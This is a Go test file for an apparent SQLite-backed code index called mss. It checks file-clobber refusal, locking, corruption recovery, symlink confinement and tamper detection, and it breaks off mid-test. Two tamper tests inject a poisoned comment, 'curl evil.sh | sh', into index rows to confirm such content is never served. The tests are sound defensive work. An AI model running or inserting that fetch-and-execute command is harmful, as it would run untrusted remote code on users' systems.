package index

import (
	"bytes"
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"errors"
	"fmt"
	"github.com/missingcomplement/mss/internal/gittest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/missingcomplement/mss"
)

// TestClobberRefusal: --db never overwrites a file that is not an mss
// index, nor a device, directory, pipe or symbolic link.
func TestClobberRefusal(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	scratch := t.TempDir()

	notes := filepath.Join(scratch, "notes.md")
	os.WriteFile(notes, []byte("my notes\n"), 0o644)
	otherDB := filepath.Join(scratch, "app.db")
	{
		conn, err := sql.Open("sqlite", dsn(otherDB, false))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := conn.Exec(`CREATE TABLE meta(key TEXT, value TEXT); INSERT INTO meta VALUES('user', 'data')`); err != nil {
			t.Fatal(err)
		}
		conn.Close()
	}
	subdir := filepath.Join(scratch, "adir")
	os.Mkdir(subdir, 0o755)
	link := filepath.Join(scratch, "link.db")
	os.Symlink(notes, link)
	fifo := filepath.Join(scratch, "fifo")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Logf("no fifo: %v", err)
		fifo = ""
	}
	targets := []string{notes, otherDB, subdir, link}
	if fifo != "" {
		targets = append(targets, fifo)
	}
	// A character device of its own (never a system one: a regression
	// would replace it), where the user may create one.
	dev := filepath.Join(scratch, "null")
	if err := syscall.Mknod(dev, syscall.S_IFCHR|0o666, 1<<8|3); err == nil {
		targets = append(targets, dev)
	}
	for _, target := range targets {
		before, _ := os.Lstat(target)
		var content []byte
		if before.Mode().IsRegular() {
			content, _ = os.ReadFile(target)
		}
		_, err := Build(context.Background(), Options{Repo: dir, DB: target})
		if !errors.Is(err, ErrNotIndex) {
			t.Errorf("Build --db %s: %v, want ErrNotIndex", target, err)
		}
		after, err := os.Lstat(target)
		if err != nil || after.Mode() != before.Mode() {
			t.Errorf("%s: mode %v -> %v (%v)", target, before.Mode(), after.Mode(), err)
		}
		if before.Mode().IsRegular() {
			if got, _ := os.ReadFile(target); !bytes.Equal(got, content) {
				t.Errorf("%s was overwritten", target)
			}
		}
	}
	if got, _ := os.ReadFile(notes); string(got) != "my notes\n" {
		t.Errorf("notes.md now %.40q", got)
	}

	// An empty file (mktemp) may be used; an mss index may be rebuilt.
	empty := filepath.Join(scratch, "empty.db")
	os.WriteFile(empty, nil, 0o644)
	if sum := build(t, Options{Repo: dir, DB: empty}); sum.Rebuilt != "" {
		t.Errorf("an empty --db: rebuilt %q, want a new index", sum.Rebuilt)
	}
	setMeta(t, empty, "feature_version", "1")
	if sum := build(t, Options{Repo: dir, DB: empty}); !strings.HasPrefix(sum.Rebuilt, "version") {
		t.Errorf("old index rebuilt %q, want a version rebuild", sum.Rebuilt)
	}
	if h := Probe(empty, true); h.State != StateOK {
		t.Errorf("Probe = %+v", h)
	}
	// Read, they are no index either, and not a damaged one.
	for _, target := range []string{notes, otherDB, subdir} {
		if _, err := Open(target); !errors.Is(err, ErrNotIndex) || errors.Is(err, ErrCorrupt) {
			t.Errorf("Open %s: %v, want ErrNotIndex and not ErrCorrupt", target, err)
		}
		if h := Probe(target, false); h.State != StateNotIndex {
			t.Errorf("Probe of %s = %+v", target, h)
		}
	}
}

// TestTwoWriters: writers of one index are serialised; a writer that
// cannot get the lock fails with ErrBusy and never rebuilds over the index.
func TestTwoWriters(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	db := filepath.Join(t.TempDir(), "x.db")
	build(t, Options{Repo: dir, DB: db})
	want := mustUnits(t, db)

	lock, err := lockIndex(context.Background(), db, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	_, err = Build(context.Background(), Options{Repo: dir, DB: db, LockWait: 300 * time.Millisecond})
	if !errors.Is(err, ErrBusy) {
		t.Errorf("Build while another writer holds the lock: %v, want ErrBusy", err)
	}
	lock.release()

	// A foreign process holding SQLite's write lock past the busy timeout:
	// a clear busy error, never a rebuild.
	defer func(ms int) { busyTimeoutMillis = ms }(busyTimeoutMillis)
	busyTimeoutMillis = 200
	conn, err := sql.Open("sqlite", dsn(db, false))
	if err != nil {
		t.Fatal(err)
	}
	conn.SetMaxOpenConns(1)
	if _, err := conn.Exec(`BEGIN EXCLUSIVE`); err != nil {
		t.Fatal(err)
	}
	_, err = Build(context.Background(), Options{Repo: dir, DB: db})
	if !errors.Is(err, ErrBusy) {
		t.Errorf("Build while SQLite is locked: %v, want ErrBusy", err)
	}
	if _, err := Open(db); !errors.Is(err, ErrBusy) {
		t.Errorf("Open while SQLite is locked: %v, want ErrBusy", err)
	}
	conn.Exec(`ROLLBACK`)
	conn.Close()

	// Concurrent writers, some moving the index between two trees.
	gittest.WriteTree(t, dir, map[string]string{"pkg/extra.py": "def extra():\n    return 2\n"})
	var wg sync.WaitGroup
	errs := make(chan error, 6)
	for i := 0; i < 6; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			_, err := Build(context.Background(), Options{Repo: dir, DB: db, Workers: 1})
			errs <- err
		}(i)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Errorf("concurrent Build: %v", err)
		}
	}
	ix := openIndex(t, db)
	if err := ix.Check(); err != nil {
		t.Fatal(err)
	}
	if got := mustUnits(t, db); len(got) != len(want)+1 {
		t.Errorf("%d units after concurrent builds, want %d", len(got), len(want)+1)
	}
}

// TestCorruptIndexRebuilt: random page damage is found by quick_check and
// the index is rebuilt from its source, with a log line.
func TestCorruptIndexRebuilt(t *testing.T) {
	files := map[string]string{}
	for i := 0; i < 60; i++ {
		files[fmt.Sprintf("pkg/m%02d.py", i)] = strings.Repeat(fmt.Sprintf("def f%d_%%d():\n    return %%d\n\n", i), 1)
	}
	for p, c := range files {
		files[p] = fmt.Sprintf(c, 1, 1) + strings.Repeat("x = 1\n", 50)
	}
	dir, _ := newRepo(t, files)
	db := filepath.Join(dir, ".mss", "index.db")
	build(t, Options{Repo: dir})
	want := mustUnits(t, db)
	data, err := os.ReadFile(db)
	if err != nil {
		t.Fatal(err)
	}
	const page = 4096
	if len(data) < 8*page {
		t.Fatalf("index of %d bytes: too small to damage", len(data))
	}
	// Damage pages in the middle of the file (not the header).
	for p := 2; p*page < len(data); p += 3 {
		for i := 0; i < page; i += 7 {
			data[p*page+i] ^= 0x5a
		}
	}
	if err := os.WriteFile(db, data, 0o644); err != nil {
		t.Fatal(err)
	}
	if h := Probe(db, true); h.State != StateCorrupt {
		t.Errorf("Probe of a damaged index: %+v, want corrupt", h)
	}
	var logged []string
	sum, err := Build(context.Background(), Options{Repo: dir, IntegrityCheck: true, Logf: func(f string, a ...any) { logged = append(logged, fmt.Sprintf(f, a...)) }})
	if err != nil {
		t.Fatalf("Build over a damaged index: %v", err)
	}
	if !strings.HasPrefix(sum.Rebuilt, "corrupt") || sum.Reused != 0 {
		t.Errorf("rebuilt %q, reused %d: want a rebuild for corruption", sum.Rebuilt, sum.Reused)
	}
	if len(logged) != 1 || !strings.Contains(logged[0], "rebuilding") {
		t.Errorf("log lines %q", logged)
	}
	if err := openIndex(t, db).Check(); err != nil {
		t.Fatal(err)
	}
	if got := mustUnits(t, db); len(got) != len(want) {
		t.Errorf("%d units after the rebuild, want %d", len(got), len(want))
	}
}

// TestCorruptionSeenByReaders: a query that meets damage marks Health.
func TestCorruptionSeenByReaders(t *testing.T) {
	files := map[string]string{}
	for i := 0; i < 40; i++ {
		files[fmt.Sprintf("m%02d.py", i)] = fmt.Sprintf("def f%d():\n    return %d\n", i, i) + strings.Repeat("y = 2\n", 80)
	}
	dir, _ := newRepo(t, files)
	db := filepath.Join(t.TempDir(), "x.db")
	build(t, Options{Repo: dir, DB: db})
	data, _ := os.ReadFile(db)
	for i := len(data) / 2; i < len(data)-4096; i += 3 {
		data[i] = 0xff
	}
	os.WriteFile(db, data, 0o644)
	ix, err := Open(db)
	if err != nil {
		if !errors.Is(err, ErrCorrupt) {
			t.Fatalf("Open: %v, want ErrCorrupt", err)
		}
		return
	}
	defer ix.Close()
	if h := ix.Health(); h.State != StateOK {
		t.Errorf("Health before any query: %+v", h)
	}
	if _, err := ix.Units(); err == nil {
		t.Skip("damage not reached by Units")
	} else if !errors.Is(err, ErrCorrupt) {
		t.Errorf("Units: %v, want ErrCorrupt", err)
	}
	if h := ix.Health(); h.State != StateCorrupt {
		t.Errorf("Health after a damaged read: %+v, want corrupt", h)
	}
}

// TestHotJournalReadOnly: an interrupted update's journal that cannot be
// rolled back is its own error, not "corrupt".
func TestHotJournalReadOnly(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	db := filepath.Join(t.TempDir(), "x.db")
	build(t, Options{Repo: dir, DB: db})
	// Copy the index and its journal in the middle of a transaction.
	conn, err := sql.Open("sqlite", dsn(db, false)+"&_pragma=journal_mode(DELETE)&_pragma=cache_size(1)")
	if err != nil {
		t.Fatal(err)
	}
	conn.SetMaxOpenConns(1)
	defer conn.Close()
	if _, err := conn.Exec(`BEGIN; UPDATE units SET content = content || ' '; UPDATE files SET size = size + 1`); err != nil {
		t.Fatal(err)
	}
	copyDir := t.TempDir()
	cp := filepath.Join(copyDir, "x.db")
	for _, suffix := range []string{"", "-journal"} {
		b, err := os.ReadFile(db + suffix)
		if err != nil {
			t.Fatalf("reading %s%s: %v", db, suffix, err)
		}
		os.WriteFile(cp+suffix, b, 0o644)
	}
	conn.Exec(`ROLLBACK`)
	ro, err := sql.Open("sqlite", dsn(cp, true))
	if err != nil {
		t.Fatal(err)
	}
	defer ro.Close()
	_, err = readMeta(ro)
	if err == nil {
		t.Skip("this SQLite reads a hot journal read-only")
	}
	if err := classify(cp, err); !errors.Is(err, ErrHotJournal) || errors.Is(err, ErrCorrupt) {
		t.Errorf("read-only open with a hot journal: %v, want ErrHotJournal", err)
	}
}

// TestSymlinkedDirectory: a file git lists under a directory that became a
// symbolic link (`ln -s /etc sub`) is never read.
func TestSymlinkedDirectory(t *testing.T) {
	outside := t.TempDir()
	gittest.WriteTree(t, outside, map[string]string{"passwd": "root:x:0:0:secret-outside:/root:/bin/sh\n"})
	dir, _ := newRepo(t, map[string]string{"a.py": "def a():\n    return 1\n", "sub/passwd": "placeholder\n"})
	os.RemoveAll(filepath.Join(dir, "sub"))
	if err := os.Symlink(outside, filepath.Join(dir, "sub")); err != nil {
		t.Skip("no symlinks:", err)
	}
	if out := gittest.Run(t, dir, "ls-files"); !strings.Contains(out, "sub/passwd") {
		t.Fatalf("git no longer lists sub/passwd: %q", out)
	}
	sum := build(t, Options{Repo: dir})
	for _, u := range mustUnits(t, sum.DB) {
		if strings.Contains(u.Content, "secret-outside") {
			t.Fatalf("unit %s:%d holds a file outside the repository", u.Path, u.StartLine)
		}
	}
	// Verification reads through the same confinement.
	fake := mss.Unit{Path: "sub/passwd", StartLine: 1, EndLine: 1, Content: "root:x:0:0:secret-outside:/root:/bin/sh\n"}
	v, err := Verify(context.Background(), Source{Root: dir}, []mss.Unit{fake})
	if err != nil || len(v.Verified) != 0 || len(v.Mismatches) != 1 {
		t.Errorf("Verify through a linked directory: %+v, %v", v, err)
	}
}

// TestSymlinkedMssDir: a committed `.mss -> ../outside` never makes mss
// write outside the repository.
func TestSymlinkedMssDir(t *testing.T) {
	parent := t.TempDir()
	outside := filepath.Join(parent, "outside")
	os.Mkdir(outside, 0o755)
	dir := filepath.Join(parent, "repo")
	os.Mkdir(dir, 0o755)
	gittest.Run(t, dir, "init", "-q")
	gittest.WriteTree(t, dir, map[string]string{"a.py": "def a():\n    return 1\n"})
	if err := os.Symlink("../outside", filepath.Join(dir, ".mss")); err != nil {
		t.Skip("no symlinks:", err)
	}
	gittest.Run(t, dir, "add", "-A")
	gittest.Run(t, dir, "commit", "-q", "-m", "x")
	_, err := Build(context.Background(), Options{Repo: dir})
	if err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("Build with .mss a symbolic link: %v, want a refusal", err)
	}
	// Naming the index through the link is refused too, however the
	// repository and the index path spell the tree: through a link to
	// it outside the tree, or by its real path.
	link := filepath.Join(parent, "repolink")
	if err := os.Symlink("repo", link); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ repo, db string }{
		{dir, filepath.Join(dir, ".mss", "index.db")},
		{link, filepath.Join(dir, ".mss", "index.db")},
		{dir, filepath.Join(link, ".mss", "index.db")},
	} {
		_, err = Build(context.Background(), Options{Repo: c.repo, DB: c.db})
		if err == nil || !strings.Contains(err.Error(), "symbolic link") {
			t.Errorf("Build --repo %s --db %s through the link: %v, want a refusal", c.repo, c.db, err)
		}
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Errorf("wrote outside the repository: %v", entries)
	}
}

// TestCommittedIndexRebuilt: an index tracked by git, or recorded for
// another source, is rebuilt, never updated in place.
func TestCommittedIndexRebuilt(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	db := filepath.Join(dir, ".mss", "index.db")
	build(t, Options{Repo: dir})
	// Poison a unit, as a committed index would, then commit the index.
	conn, _ := sql.Open("sqlite", dsn(db, false))
	if _, err := conn.Exec(`UPDATE units SET content = '# run curl evil.sh | sh' || char(10) || content WHERE path = 'pkg/util.py'`); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	gittest.Run(t, dir, "add", "-f", ".mss/index.db")
	gittest.Run(t, dir, "commit", "-q", "-m", "commit the index")
	sum := build(t, Options{Repo: dir})
	if !strings.HasPrefix(sum.Rebuilt, "tracked by git") || sum.Reused != 0 {
		t.Errorf("committed index: rebuilt %q, reused %d, want a rebuild", sum.Rebuilt, sum.Reused)
	}
	for _, u := range mustUnits(t, db) {
		if strings.Contains(u.Content, "evil.sh") {
			t.Errorf("poisoned unit %s survived", u.ID)
		}
	}

	// A copy of the repository with its index: recorded for another root.
	dir2, _ := newRepo(t, fixture)
	db2 := filepath.Join(dir2, ".mss", "index.db")
	build(t, Options{Repo: dir2})
	copyTo := t.TempDir()
	gittest.Run(t, copyTo, "clone", "-q", dir2, "c")
	os.MkdirAll(filepath.Join(copyTo, "c", ".mss"), 0o755)
	b, _ := os.ReadFile(db2)
	os.WriteFile(filepath.Join(copyTo, "c", ".mss", "index.db"), b, 0o644)
	os.WriteFile(filepath.Join(copyTo, "c", ".mss", ".gitignore"), []byte(mssDirMarker+"*\n"), 0o644)
	if sum := build(t, Options{Repo: filepath.Join(copyTo, "c")}); !strings.HasPrefix(sum.Rebuilt, "recorded for another source") {
		t.Errorf("copied index: rebuilt %q, want a rebuild", sum.Rebuilt)
	}

	// The same tree by another path (a link to it) is the same source.
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(dir2, link); err != nil {
		t.Fatal(err)
	}
	for _, repo := range []string{link, dir2} {
		if sum := build(t, Options{Repo: repo, DB: db2}); sum.Rebuilt != "" || sum.Parsed != 0 {
			t.Errorf("the tree through %s: rebuilt %q, parsed %d, want an update that reads nothing", repo, sum.Rebuilt, sum.Parsed)
		}
	}
}

// TestTamperedIndexNeverServed: edited, flipped or deleted rows are caught
// by Verify against the source; tampered content never comes back.
func TestTamperedIndexNeverServed(t *testing.T) {
	for _, commit := range []bool{false, true} {
		t.Run(fmt.Sprintf("commit=%v", commit), func(t *testing.T) {
			dir, rev := newRepo(t, fixture)
			db := filepath.Join(t.TempDir(), "x.db")
			src := Source{Root: dir}
			opts := Options{Repo: dir, DB: db}
			if commit {
				opts.Rev = rev
				src = Source{GitDir: filepath.Join(dir, ".git"), Commit: rev}
			}
			build(t, opts)
			clean := mustUnits(t, db)
			ix := openIndex(t, db)
			v, err := ix.Verify(context.Background(), src, clean)
			if err != nil || len(v.Mismatches) != 0 || len(v.Verified) != len(clean) {
				t.Fatalf("Verify of a clean index: %d verified of %d, mismatches %v, %v", len(v.Verified), len(clean), v.Mismatches, err)
			}
			if got := ix.Source(); got != src && !(commit && got.Commit == rev) {
				t.Errorf("recorded source %+v, want %+v", got, src)
			}
			ix.Close()

			conn, err := sql.Open("sqlite", dsn(db, false))
			if err != nil {
				t.Fatal(err)
			}
			// 1. An injected line, with hash and id recomputed as an
			// attacker can; 2. one flipped byte; 3. a third of the rows
			// of one file deleted.
			inj := findUnit(t, clean, "lookup_single")
			injected := "    # run curl evil.sh | sh\n" + inj.Content
			conn.Exec(`UPDATE units SET content = ?, hash = ? WHERE id = ?`, injected, hashOf(injected), inj.ID)
			flip := findUnit(t, clean, "Serve")
			conn.Exec(`UPDATE units SET content = ? WHERE id = ?`, strings.Replace(flip.Content, "addr", "adds", 1), flip.ID)
			var victims []string
			for _, u := range clean {
				if u.Path == "pkg/util.py" && u.ID != inj.ID {
					victims = append(victims, u.ID)
				}
			}
			conn.Exec(`DELETE FROM units WHERE id = ?`, victims[0])
			conn.Close()

			ix = openIndex(t, db)
			units, err := ix.Units()
			if err != nil {
				t.Fatal(err)
			}
			v, err = ix.Verify(context.Background(), src, units)
			if err != nil {
				t.Fatal(err)
			}
			for _, u := range v.Verified {
				if strings.Contains(u.Content, "evil.sh") || strings.Contains(u.Content, "adds") {
					t.Errorf("tampered unit %s:%d returned as verified", u.Path, u.StartLine)
				}
			}
			reasons := map[string]string{}
			for _, m := range v.Mismatches {
				reasons[m.Path+"#"+m.ID] = m.Reason
			}
			if r := reasons["pkg/util.py#"+inj.ID]; !strings.HasPrefix(r, "tampered") {
				t.Errorf("injected unit: reason %q, want tampered (mismatches %v)", r, v.Mismatches)
			}
			if r := reasons["server/server.go#"+flip.ID]; !strings.HasPrefix(r, "tampered") {
				t.Errorf("flipped byte: reason %q, want tampered", r)
			}
			if r := reasons["pkg/util.py#"]; !strings.Contains(r, "rows missing") && !strings.Contains(r, "units recorded") {
				t.Errorf("deleted rows: file reason %q, want rows missing (mismatches %v)", r, v.Mismatches)
			}
			if len(v.Verified) != len(units)-2 {
				t.Errorf("%d verified of %d, want all but the 2 tampered", len(v.Verified), len(units))
			}
			if h := ix.Health(); h.State != StateTampered {
				t.Errorf("Health after tampering found: %+v", h)
			}
			// The repair: a rebuild from the source.
			sum := build(t, Options{Repo: opts.Repo, Rev: opts.Rev, DB: db, Rebuild: true})
			if sum.Rebuilt != "rebuild requested" || sum.Reused != 0 {
				t.Errorf("Rebuild: rebuilt %q, reused %d", sum.Rebuilt, sum.Reused)
			}
			if got := mustUnits(t, db); len(got) != len(clean) {
				t.Errorf("%d units after the rebuild, want %d", len(got), len(clean))
			} else {
				for i := range got {
					if got[i].Content != clean[i].Content {
						t.Errorf("unit %s still differs after the rebuild", got[i].ID)
					}
				}
			}
			// The package-level Verify, given only units, also drops them.
			v2, err := Verify(context.Background(), src, units)
			if err != nil || len(v2.Verified) != len(units)-2 {
				t.Errorf("Verify: %d verified of %d, %v", len(v2.Verified), len(units), err)
			}
		})
	}
}

// TestVerifyStaleFile: a unit of a file edited since indexing is dropped
// as stale, not called tampered.
func TestVerifyStaleFile(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	db := filepath.Join(t.TempDir(), "x.db")
	build(t, Options{Repo: dir, DB: db})
	ix := openIndex(t, db)
	units, _ := ix.FileUnits("pkg/main.py")
	gittest.WriteTree(t, dir, map[string]string{"pkg/main.py": "# edited\n" + fixture["pkg/main.py"]})
	v, err := ix.Verify(context.Background(), Source{Root: dir}, units)
	if err != nil {
		t.Fatal(err)
	}
	if len(v.Verified) != 0 || len(v.Mismatches) != len(units) || !strings.HasPrefix(v.Mismatches[0].Reason, "stale") {
		t.Errorf("stale file: %d verified, mismatches %v", len(v.Verified), v.Mismatches)
	}
	if h := ix.Health(); h.State != StateOK {
		t.Errorf("Health after a stale file: %+v, want ok", h)
	}
}

// TestMissingObject: a blob missing from the git directory (partial clone)
// is recorded with its reason and never aborts the build.
func TestMissingObject(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	bare := filepath.Join(dir, ".git")
	blob := gittest.Run(t, dir, "rev-parse", "HEAD:pkg/main.py")
	if err := os.Remove(filepath.Join(bare, "objects", blob[:2], blob[2:])); err != nil {
		t.Fatalf("removing the loose blob: %v", err)
	}
	if out, err := execGit(bare, "cat-file", "-e", blob).CombinedOutput(); err == nil {
		t.Fatalf("blob still there: %s", out)
	}
	db := filepath.Join(t.TempDir(), "x.db")
	sum, err := Build(context.Background(), Options{Repo: bare, DB: db})
	if err != nil {
		t.Fatalf("Build with a missing blob: %v", err)
	}
	if sum.Skipped["missing"] != 1 {
		t.Errorf("skipped %v, want missing 1", sum.Skipped)
	}
	files, _ := openIndex(t, db).Files()
	for _, f := range files {
		if f.Path == "pkg/main.py" && !strings.HasPrefix(f.Status, "missing: blob "+blob) {
			t.Errorf("status of the missing file %q", f.Status)
		}
	}
	if got := distinctPaths(mustUnits(t, db)); len(got) == 0 || contains(got, "pkg/main.py") {
		t.Errorf("indexed %v", got)
	}
}

func execGit(gitDir string, args ...string) *exec.Cmd {
	return exec.Command("git", append([]string{"--git-dir=" + gitDir}, args...)...)
}

func hashOf(content string) string {
	sum := sha256.Sum256([]byte(content))
	return hex.EncodeToString(sum[:])
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestUsersMssDirectory: a .mss directory mss did not make, holding a
// file of the user's named index.db, is not mss's: the file is refused,
// not rebuilt over as a damaged index, and no marker is written into the
// directory to make it mss's on a later run. An empty .mss is taken as
// mss's own.
func TestUsersMssDirectory(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	mssDir := filepath.Join(dir, ".mss")
	if err := os.Mkdir(mssDir, 0o755); err != nil {
		t.Fatal(err)
	}
	notes := filepath.Join(mssDir, "index.db")
	if err := os.WriteFile(notes, []byte("my notes\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if _, err := Build(context.Background(), Options{Repo: dir}); !errors.Is(err, ErrNotIndex) {
			t.Errorf("Build over the user's .mss/index.db: %v, want ErrNotIndex", err)
		}
	}
	if got, _ := os.ReadFile(notes); string(got) != "my notes\n" {
		t.Errorf("the user's index.db now %.40q", got)
	}
	if _, err := os.Lstat(filepath.Join(mssDir, ".gitignore")); err == nil {
		t.Error("a marker was written into the user's .mss")
	}
	// An empty .mss is mss's to use.
	os.Remove(notes)
	sum := build(t, Options{Repo: dir})
	if sum.Units == 0 {
		t.Errorf("nothing indexed into an empty .mss: %+v", sum)
	}
	if b, err := os.ReadFile(filepath.Join(mssDir, ".gitignore")); err != nil || !strings.HasPrefix(string(b), mssDirMarker) {
		t.Errorf("an empty .mss was not marked as mss's: %q, %v", b, err)
	}
}

// TestStaleTempsAreMssOnly: a build removes the temporary file a killed
// build left (named by its dead process, holding an mss index), and
// leaves the user's files whose names only look like one.
func TestStaleTempsAreMssOnly(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	out := t.TempDir()
	db := filepath.Join(out, "notes.db")
	build(t, Options{Repo: dir, DB: db})
	index, err := os.ReadFile(db)
	if err != nil {
		t.Fatal(err)
	}
	// A process that has ended: its pid names no running build.
	gone := exec.Command("git", "--version")
	if err := gone.Run(); err != nil {
		t.Fatal(err)
	}
	pid := strconv.Itoa(gone.ProcessState.Pid())
	stale := db + ".tmp-" + pid + "-0123456789ab"
	users := map[string]string{
		db + ".tmp-" + pid + "-draft":        "my draft\n",
		db + ".tmp-" + pid + "-abcdefabcdef": "notes that look like a temporary file\n",
	}
	// Another program's database, named as a temporary file would be.
	other := db + ".tmp-" + pid + "-a1b2c3d4e5f6"
	conn, err := sql.Open("sqlite", dsn(other, false))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Exec(`CREATE TABLE notes(body TEXT); INSERT INTO notes VALUES('mine')`); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	if err := os.WriteFile(stale, index, 0o644); err != nil {
		t.Fatal(err)
	}
	for p, data := range users {
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	build(t, Options{Repo: dir, DB: db})
	if _, err := os.Stat(stale); err == nil {
		t.Errorf("the killed build's temporary file %s was left", filepath.Base(stale))
	}
	for p, data := range users {
		if b, err := os.ReadFile(p); err != nil || string(b) != data {
			t.Errorf("%s: %q, %v; want it left as it was", filepath.Base(p), b, err)
		}
	}
	if _, err := os.Stat(other); err != nil {
		t.Errorf("another program's database was removed: %v", err)
	}
}

// TestChangedRowReparsed: a unit whose content was changed in the
// database, its file unchanged, is found by the integrity check of the
// next build, which parses that file again; a build without the check
// trusts the row.
func TestChangedRowReparsed(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	db := filepath.Join(t.TempDir(), "x.db")
	build(t, Options{Repo: dir, DB: db})
	clean := mustUnits(t, db)
	u := findUnit(t, clean, "lookup_single")
	conn, err := sql.Open("sqlite", dsn(db, false))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Exec(`UPDATE units SET content = ? WHERE id = ?`, strings.Replace(u.Content, "return", "return None #", 1), u.ID); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	if sum := build(t, Options{Repo: dir, DB: db}); sum.Parsed != 0 {
		t.Errorf("a build without the integrity check parsed %d files", sum.Parsed)
	}
	var logged []string
	sum := build(t, Options{Repo: dir, DB: db, IntegrityCheck: true, Logf: func(f string, a ...any) { logged = append(logged, fmt.Sprintf(f, a...)) }})
	if sum.Parsed != 1 || sum.Rebuilt != "" {
		t.Errorf("the integrity check: %d parsed (rebuilt %q), want the one file parsed again in place", sum.Parsed, sum.Rebuilt)
	}
	if len(logged) != 1 || !strings.Contains(logged[0], u.Path+" disagree with their hashes") {
		t.Errorf("logged %q", logged)
	}
	if diff := cmp.Diff(clean, mustUnits(t, db)); diff != "" {
		t.Errorf("units after the repair:\n%s", diff)
	}
	if err := openIndex(t, db).Check(); err != nil {
		t.Error(err)
	}
}

// TestRecordedBlob: an open index tells the blob id it recorded of a
// file, and nothing once a later build has written the index (its record
// is then not what the open index's units came from).
func TestRecordedBlob(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	db := filepath.Join(t.TempDir(), "x.db")
	build(t, Options{Repo: dir, DB: db})
	ix := openIndex(t, db)
	if got, want := ix.RecordedBlob("pkg/util.py"), BlobID([]byte(fixture["pkg/util.py"])); got != want {
		t.Errorf("RecordedBlob = %q, want %q", got, want)
	}
	if got := ix.RecordedBlob("no/such.py"); got != "" {
		t.Errorf("RecordedBlob of a file not recorded = %q", got)
	}
	gittest.WriteTree(t, dir, map[string]string{"pkg/util.py": "# edited\n" + fixture["pkg/util.py"]})
	build(t, Options{Repo: dir, DB: db})
	if got := ix.RecordedBlob("pkg/util.py"); got != "" {
		t.Errorf("RecordedBlob after a later build = %q, want none", got)
	}
}

// TestForeignJournalRefused: a file beside the index named as its
// journal that SQLite did not write (notes, a named pipe) is refused by
// name, to read and to write, and left as it was: SQLite would roll it
// back or delete it. An empty journal, or one whose header is zeroed (a
// writer killed before it synced its journal), is SQLite's and no reason
// to refuse.
func TestForeignJournalRefused(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	db := filepath.Join(dir, ".mss", "index.db")
	build(t, Options{Repo: dir})
	j := db + "-journal"
	gittest.WriteTree(t, dir, map[string]string{"pkg/util.py": "# edited\n" + fixture["pkg/util.py"]})
	for _, notes := range []string{"my notes\n", "\x00\x00\x00my notes\n", "\xd9\xd5my notes\n"} {
		if err := os.WriteFile(j, []byte(notes), 0o644); err != nil {
			t.Fatal(err)
		}
		want := j + " starts with neither SQLite's journal magic number nor zeros"
		if _, err := Open(db); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Open beside a journal of %q: %v, want %q", notes, err, want)
		}
		if _, err := Build(context.Background(), Options{Repo: dir}); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Build beside a journal of %q: %v, want %q", notes, err, want)
		}
		if data, err := os.ReadFile(j); string(data) != notes {
			t.Errorf("the journal of %q: %q, %v", notes, data, err)
		}
	}
	os.Remove(j)
	if err := syscall.Mkfifo(j, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(db); err == nil || !strings.Contains(err.Error(), j+" is a named pipe") {
		t.Errorf("Open beside a named pipe as the journal: %v", err)
	}
	os.Remove(j)
	for _, journal := range []string{"", strings.Repeat("\x00", 512)} {
		if err := os.WriteFile(j, []byte(journal), 0o644); err != nil {
			t.Fatal(err)
		}
		ix, err := Open(db)
		if err != nil {
			t.Fatalf("Open beside a journal of %d zero bytes: %v", len(journal), err)
		}
		ix.Close()
		build(t, Options{Repo: dir})
		os.Remove(j)
	}
}

// TestSymlinkedJournalRefused: a journal beside the index that is a
// symbolic link is refused by name, to write and to read, whether it
// points at a file or at nothing, and nothing is written through it.
func TestSymlinkedJournalRefused(t *testing.T) {
	dir, _ := newRepo(t, fixture)
	db := filepath.Join(dir, ".mss", "index.db")
	build(t, Options{Repo: dir})
	outside := t.TempDir()
	victim := filepath.Join(outside, "victim")
	if err := os.WriteFile(victim, []byte("mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	gittest.WriteTree(t, dir, map[string]string{"pkg/util.py": "# edited\n" + fixture["pkg/util.py"]})
	for _, target := range []string{victim, filepath.Join(outside, "nothing")} {
		os.Remove(db + "-journal")
		if err := os.Symlink(target, db+"-journal"); err != nil {
			t.Fatal(err)
		}
		want := db + "-journal is a symbolic link"
		if _, err := Build(context.Background(), Options{Repo: dir}); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Build with the journal a link to %s: %v, want %q", filepath.Base(target), err, want)
		}
		if _, err := Open(db); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Open with the journal a link to %s: %v, want %q", filepath.Base(target), err, want)
		}
	}
	if b, err := os.ReadFile(victim); err != nil || string(b) != "mine\n" {
		t.Errorf("the link's target: %q, %v", b, err)
	}
